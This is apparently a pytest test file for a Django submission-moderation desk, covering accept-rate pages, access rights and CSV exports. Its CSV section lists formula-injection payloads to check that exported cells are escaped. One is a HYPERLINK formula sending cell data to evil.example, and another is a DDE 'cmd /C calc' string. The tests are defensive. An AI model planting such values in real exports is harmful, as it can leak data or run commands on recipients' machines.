"""Accept rates by domain and sender, and the CSV files."""

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone
from lxml import html

from curation.models import DeclineReason, Submission
from curation.submissions import moderating
from curation.submissions.desk.csv_export import escape_formula
from tests.builders import a_partner, a_sending, a_submission
from tests.desk import GROUPS
from tests.submissions.desk.queue_pages import QUEUE

pytestmark = pytest.mark.django_db
RATES, RATES_CSV, QUEUE_CSV = f"{QUEUE}rates/", f"{QUEUE}rates.csv", f"{QUEUE}queue.csv"
State = Submission.State


def table(response) -> list[list[str]]:
    rows = html.fromstring(response.content.decode()).xpath("//tbody/tr")
    return [[" ".join(cell.text_content().split()) for cell in row.xpath("./*")] for row in rows]


def lines(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def decided(number, state, domain="ledger.example", **facts):
    for n in range(number):
        a_submission(f"https://{domain}/{state}-{n}", state=state, **facts)


# ---------------------------------------------------------------- rates


def test_rates_count_what_was_decided_by_domain(desk):
    decided(2, State.ACCEPTED)
    decided(1, State.MERGED)
    decided(1, State.DECLINED)
    decided(1, State.WITHDRAWN)
    decided(1, State.RECEIVED)
    decided(1, State.SPAM, "spam.example")
    page = desk("moderator").get(RATES)
    assert "green is accepted or merged, grey is the rest" in page.content.decode()
    rows = table(page)
    assert [row[:2] + row[3:6] for row in rows] == [
        ["ledger.example", "75 % 3", "4", "1", "0"],
        ["spam.example", "0 % 0", "1", "0", "1"],
    ]


def test_rates_count_by_sender_and_each_of_several_senders(desk):
    submission = a_submission(email="ines@mail.example", state=State.ACCEPTED)
    a_sending(submission, "Tom Brandt", "tom@mail.example")
    a_submission(email="ines@mail.example", state=State.DECLINED)
    rows = table(desk("moderator").get(RATES, {"by": "sender"}))
    assert [row[:2] for row in rows] == [
        ["Ines Okafor ines@mail.example", "50 % 1"],
        ["Tom Brandt tom@mail.example", "100 % 1"],
    ]


@pytest.mark.parametrize("group", ["curator", "editor"])
def test_who_may_only_look_sees_names_alone(desk, group):
    a_submission(email="ines@mail.example", state=State.ACCEPTED)
    page = desk(group).get(RATES, {"by": "sender"}).content.decode()
    assert "Ines Okafor" in page
    assert "ines@mail.example" not in page
    assert "rates.csv" not in page


def test_a_period_and_an_order_are_chosen(desk):
    decided(1, State.ACCEPTED, "new.example")
    decided(3, State.DECLINED, "new.example")
    old = timezone.now() - timedelta(days=60)
    decided(2, State.ACCEPTED, "old.example", decided_at=old)
    client = desk("moderator")

    def first_cells(**query):
        return [row[0] for row in table(client.get(RATES, query))]

    assert first_cells(days="30") == ["new.example"]
    assert first_cells() == ["new.example", "old.example"]
    assert first_cells(sort="highest") == ["old.example", "new.example"]
    assert first_cells(sort="lowest") == ["new.example", "old.example"]
    assert first_cells(sort="latest") == ["new.example", "old.example"]


def test_a_choice_that_there_is_not_gets_a_sentence_and_nothing_decided_too(desk):
    client = desk("moderator")
    page = client.get(RATES, {"days": "x", "by": "'", "sort": "--"}).content.decode()
    assert page.count("queue-error") == 3
    assert "Nothing was decided in this time" in page
    assert client.get(RATES, {"page": "7"}).status_code == 404


def test_who_may_see_the_rates(desk, django_user_model):
    assert Client().get(RATES).url.startswith("/admin/login/")
    for group in GROUPS:
        assert desk(group).get(RATES).status_code == 200
    nobody = django_user_model.objects.create_user("nobody", is_staff=True)
    assert desk(nobody).get(RATES).status_code == 403


@pytest.mark.parametrize("by", ["domain", "sender"])
def test_more_rates_ask_no_more(desk, django_assert_max_num_queries, by):
    client = desk("moderator")
    decided(1, State.ACCEPTED)
    client.get(RATES, {"by": by})
    with django_assert_max_num_queries(20) as asked:
        client.get(RATES, {"by": by})
    for number in range(59):
        decided(1, State.ACCEPTED, f"site{number}.example")
    with django_assert_max_num_queries(len(asked)):
        assert len(table(client.get(RATES, {"by": by}))) == 50


# ---------------------------------------------------------------- CSV files


@pytest.mark.parametrize("address", [QUEUE_CSV, RATES_CSV])
def test_files_are_for_moderators(desk, address):
    assert Client().get(address).url.startswith("/admin/login/")
    for group in ("curator", "editor"):
        assert desk(group).get(address).status_code == 403
    answer = desk("moderator").get(address)
    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith("attachment;")
    assert answer.streaming
    assert b"".join(answer.streaming_content).startswith(b"\xef\xbb\xbf")


def test_the_file_holds_what_the_filters_leave(desk):
    client = desk("moderator")
    one = a_submission(
        "https://ledger.example/a?utm_source=x", title="Zoë, “wards”\nand more",
        email="ines@mail.example", why="It matters", partner=a_partner("Harbour Wire"),
    )  # fmt: skip
    a_sending(one, has_relationship=True)
    moderating.take_up(one, by=client.user)
    a_submission("https://post.example/a")
    gone = a_submission("https://ledger.example/b")
    moderating.decline(gone, by=client.user, reason=DeclineReason.objects.get(label="paywalled"))
    head, line = lines(client.get(QUEUE_CSV, {"domain": "ledger"}))
    cells = dict(zip(head, line, strict=True))
    assert cells["title"] == "Zoë, “wards”\nand more"
    assert cells["address"] == "https://ledger.example/a"
    assert (cells["sender"], cells["e-mail"]) == ("Ines Okafor", "ines@mail.example")
    assert (cells["further senders"], cells["relationship"]) == ("1", "yes")
    assert (cells["partner"], cells["assigned to"]) == ("Harbour Wire", "moderator-person")
    head, line = lines(client.get(QUEUE_CSV, {"state": "declined"}))
    assert dict(zip(head, line, strict=True))["reason"] == "paywalled"


def test_the_file_of_a_story_names_each_of_its_submissions(desk):
    first = a_submission()
    a_submission(story=first)
    assert len(lines(desk("moderator").get(QUEUE_CSV))) == 3


def test_many_lines_ask_no_more_for_each(desk, django_assert_max_num_queries):
    for _number in range(30):
        a_submission(partner=a_partner())
    client = desk("moderator")
    with django_assert_max_num_queries(14):
        assert len(lines(client.get(QUEUE_CSV))) == 31


NASTY = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\u3000=1+1",
    "\u200b=1+1", "\ufeff=1+1",
    "\u202e=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1", "=", "\x00=1", "\tplain", "\rplain",
]  # fmt: skip


@pytest.mark.parametrize("value", NASTY)
def test_no_cell_is_a_formula(value):
    assert escape_formula(value) == f"'{value}"


@pytest.mark.parametrize(
    "value", ["Wards", "a=b", "1-2", "x@y.example", "", " blank", "’=1", "5 + 5"]
)
def test_plain_cells_stay_as_they_are(value):
    assert escape_formula(value) == value


def test_what_strangers_wrote_reaches_the_file_as_text(desk):
    a_submission(title="=1+1", name="@SUM(A1)", why='-1+"x",=2\r\n=3', email="+x@mail.example")
    head, line = lines(desk("moderator").get(QUEUE_CSV))
    cells = dict(zip(head, line, strict=True))
    assert (cells["title"], cells["sender"]) == ("'=1+1", "'@SUM(A1)")
    assert (cells["e-mail"], cells["why it matters"]) == ("'+x@mail.example", '\'-1+"x",=2\r\n=3')


def test_the_file_of_the_rates_holds_every_line(desk):
    for number in range(60):
        decided(
            1, State.ACCEPTED, f"site{number}.example", name="=1+1", email=f"r{number}@mail.example"
        )
    client = desk("moderator")
    domains = lines(client.get(RATES_CSV))
    assert len(domains) == 61
    assert domains[0][0] == "domain"
    senders = lines(client.get(RATES_CSV, {"by": "sender"}))
    assert len(senders) == 61
    assert senders[1][1:7] == ["'=1+1", "1", "1", "0", "0", "100"]
